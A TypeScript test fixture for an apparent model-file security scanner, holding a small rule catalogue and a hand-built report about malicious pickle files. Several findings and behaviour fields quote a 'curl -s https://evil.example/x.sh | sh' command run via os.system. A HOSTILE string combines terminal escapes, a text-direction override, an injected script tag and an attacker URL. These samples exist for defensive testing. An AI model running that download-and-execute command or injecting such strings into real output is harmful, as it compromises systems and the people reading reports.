// A report and a small catalogue for tests, built by hand, with hostile text in every place that scanned data can reach.

import type { Finding, Report, Rule } from '@sentrascan/contract';

const NO_SAMPLES = { fires: [], silent: [] };

const startsProcess: Rule = {
  id: 'pickle/starts-process',
  aliases: ['pickle/exec'],
  title: 'Loading this file starts a program',
  category: 'code-execution',
  severity: 'critical',
  stability: 'stable',
  since: '1.0',
  cwe: [502, 78],
  owasp: ['ML06:2023', 'LLM03:2025'],
  atlas: ['AML.T0010', 'AML.T0011'],
  tags: ['code-execution', 'deserialization'],
  message: '{callable} runs on load with {args}',
  why: 'Unpickling calls the named function with the stored arguments before you get an object back.',
  fix: [
    'Ask the author for safetensors.',
    'Load with torch.load(weights_only=True), which refuses this call.',
  ],
  falsePositives: 'Never legitimate in a file of weights.',
  references: ['https://docs.python.org/3/library/pickle.html'],
  samples: NO_SAMPLES,
};

const unknownCallable: Rule = {
  id: 'pickle/unknown-callable',
  title: 'Loading this file calls a function that the scanner does not know',
  category: 'code-execution',
  severity: 'medium',
  stability: 'preview',
  since: '1.0',
  cwe: [502],
  owasp: ['ML06:2023'],
  atlas: ['AML.T0010'],
  tags: ['deserialization'],
  message: '{callable} is called on load and is not known to be safe',
  why: 'Nobody has judged what the function does with arguments that an attacker chooses.',
  fix: ['Read the function before you load the file.'],
  falsePositives: 'Functions of your own packages.',
  samples: NO_SAMPLES,
};

const hiddenMember: Rule = {
  id: 'container/hidden-entry',
  title: 'An archive member that its directory does not list',
  category: 'evasion',
  severity: 'high',
  stability: 'stable',
  since: '1.0',
  cwe: [436],
  owasp: [],
  atlas: [],
  tags: [],
  message: 'the member {name} is not in the central directory',
  why: 'Readers that trust the directory never see the member; others load it.',
  fix: ['Do not load the archive; ask for one written by an ordinary zip tool.'],
  falsePositives: 'Archives cut and repaired by hand.',
  samples: NO_SAMPLES,
};

/** The catalogue that goes with the sample report. `pickle/retired-rule` is used by a finding and missing here. */
export const SAMPLE_RULES: ReadonlyMap<string, Rule> = new Map(
  [startsProcess, unknownCallable, hiddenMember].map((rule) => [rule.id, rule]),
);

/** Clears the screen, reverses text, opens HTML, closes a table cell, ends a code block, mentions a user. */
export const HOSTILE =
  '\x1b[2J\u202egnp.exe\r\n<script>alert(1)</script>|`"] @admin #1 https://evil.example/\u0007\ud800';

const findings: Finding[] = [
  {
    ruleId: 'pickle/unknown-callable',
    category: 'code-execution',
    severity: 'medium',
    confidence: 'medium',
    artifact: 'data/ünï <b>|odd|</b>.pkl',
    location: { offset: 12 },
    message: `${HOSTILE} is called on load and is not known to be safe`,
    evidence: { callable: HOSTILE, args: ['1', "'two'"] },
    fingerprint: 'v1:33333333333333333333333333333333',
    tags: ['deserialization'],
  },
  {
    ruleId: 'pickle/starts-process',
    category: 'code-execution',
    severity: 'critical',
    confidence: 'high',
    artifact: 'models/model.pt!archive/data.pkl',
    location: { offset: 43, lengthBytes: 1 },
    message: "os.system runs on load with ('curl -s https://evil.example/x.sh | sh',)",
    evidence: {
      callable: 'os.system',
      args: "('curl -s https://evil.example/x.sh | sh',)",
      opcode: 'REDUCE',
    },
    excerpt: `    2: c GLOBAL     'posix system'\n   16: X BINUNICODE 'curl -s https://evil.example/x.sh | sh'\n\`\`\`\`\n   43: R REDUCE\x1b[31m\n`,
    flow: [
      { message: 'os.system is resolved', location: { offset: 2 } },
      { message: 'and called with [one] {argument}', location: { offset: 43 } },
    ],
    fingerprint: 'v1:11111111111111111111111111111111',
    tags: ['code-execution'],
  },
  {
    ruleId: 'pickle/starts-process',
    category: 'code-execution',
    severity: 'critical',
    confidence: 'high',
    artifact: 'models/model.pt!archive/data.pkl',
    location: { offset: 91 },
    message: "os.system runs on load with ('id',)",
    evidence: { callable: 'os.system', args: "('id',)" },
    fingerprint: 'v1:22222222222222222222222222222222',
    tags: ['code-execution'],
  },
  {
    ruleId: 'container/hidden-entry',
    category: 'evasion',
    severity: 'high',
    confidence: 'high',
    artifact: 'models/model.pt',
    message: 'the member __reduce__.pkl is not in the central directory',
    evidence: { name: '__reduce__.pkl' },
    fingerprint: 'v1:44444444444444444444444444444444',
    tags: [],
    waiver: { reason: 'known test file', owner: 'ml-platform', expires: '2027-01-01' },
  },
  {
    ruleId: 'pickle/retired-rule',
    category: 'configuration',
    severity: 'low',
    confidence: 'low',
    artifact: 'notes/train.ipynb',
    location: { cell: 3, part: 'source', line: 2, rawLine: 57 },
    message: 'a finding whose rule this catalogue no longer has',
    evidence: {},
    fingerprint: 'v1:55555555555555555555555555555555',
    tags: [],
  },
];

/** Malicious, partly unread, one finding waived. */
export const SAMPLE_REPORT: Report = {
  schema: 'sentrascan.report/1',
  tool: { name: 'SentraScan', version: '0.1.0', rulesDigest: 'sha256:00' },
  target: { locator: './models', resolved: 'models', provenance: {} },
  verdict: 'malicious',
  summary: {
    artifacts: 5,
    bytesTotal: 3_221_225_472,
    bytesRead: 3_221_225_000,
    findings: { critical: 2, high: 0, medium: 1, low: 1 },
    gaps: 4,
    waived: 1,
  },
  artifacts: [
    {
      path: 'models/model.pt',
      sizeBytes: 3_221_220_000,
      sha256: 'c0ffee'.padEnd(64, '0'),
      identity: ['torch-zip', 'zip'],
      claim: 'torch',
      verdict: 'malicious',
      coverage: {
        bytesTotal: 3_221_220_000,
        bytesRead: 3_221_220_000,
        bytesExplained: 3_221_219_000,
        gaps: 1,
      },
      children: [
        {
          path: 'models/model.pt!archive/data.pkl',
          sizeBytes: 120,
          identity: ['pickle'],
          verdict: 'malicious',
          coverage: { bytesTotal: 120, bytesRead: 120, bytesExplained: 120, gaps: 0 },
          behaviour: {
            imports: ['os', 'torch._utils'],
            calls: ["os.system('curl -s https://evil.example/x.sh | sh')", "os.system('id')", HOSTILE],
            files: [],
            network: ['https://evil.example/x.sh'],
            processes: ['curl -s https://evil.example/x.sh | sh', 'id'],
            unknowns: [],
            loaders: [
              { loader: 'pickle.load', outcome: 'runs the program' },
              { loader: 'torch.load', outcome: 'runs the program before torch 2.6, refuses it since' },
              { loader: 'torch.load(weights_only=True)', outcome: 'refuses os.system' },
            ],
          },
          globals: [
            { module: 'os', name: 'system', standing: 'dangerous', offset: 2, called: true },
            { module: '__proto__', name: HOSTILE, standing: 'unknown', offset: 70, called: false },
          ],
        },
      ],
    },
    {
      path: 'data/ünï <b>|odd|</b>.pkl',
      sizeBytes: 472,
      identity: ['pickle'],
      verdict: 'suspicious',
      coverage: { bytesTotal: 472, bytesRead: 0, bytesExplained: 0, gaps: 2 },
    },
    {
      path: 'notes/train.ipynb',
      sizeBytes: 5_000,
      identity: ['json'],
      verdict: 'inconclusive',
      coverage: { bytesTotal: 5_000, bytesRead: 5_000, bytesExplained: 5_000, gaps: 1 },
    },
  ],
  findings,
  gaps: [
    {
      artifact: 'data/ünï <b>|odd|</b>.pkl',
      kind: 'truncated',
      reason: `The stream ends at byte 472 inside ${HOSTILE}.`,
      consequence: 'What would have followed is unknown.',
      location: { offset: 472 },
    },
    {
      artifact: 'models/model.pt!archive/data/7',
      kind: 'limit',
      reason: 'More than 1073741824 bytes inflated.',
      consequence: 'The rest of the member was not read.',
    },
    {
      artifact: 'data/ünï <b>|odd|</b>.pkl',
      kind: 'limit',
      reason: 'More than 20000 opcodes.',
      consequence: 'Calls after that are not reported.',
    },
    {
      artifact: 'notes/train.ipynb',
      kind: 'unrecognised',
      reason: 'No format of this version judges a notebook.',
      consequence: 'Its code was not judged.',
    },
  ],
};
